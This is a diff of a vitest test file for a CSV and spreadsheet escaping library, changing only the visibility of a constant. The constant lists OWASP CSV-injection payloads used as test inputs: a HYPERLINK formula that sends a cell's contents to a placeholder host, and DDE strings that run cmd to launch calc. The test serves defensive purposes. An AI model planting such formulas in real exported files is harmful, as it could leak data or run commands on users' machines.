@@ -3,7 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { csvCell, csvLine, csvText, neutraliseFormula, sheetCell, spreadsheetText } from './index.js';
 
 /** The payloads of OWASP's CSV-injection page and of the hardening report. */
-export const FORMULA_PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', 'x;=1+1', '\t=1+1', '\r=1+1'];
+const FORMULA_PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', 'x;=1+1', '\t=1+1', '\r=1+1'];
 
 describe('csvCell', () => {
   it.each([
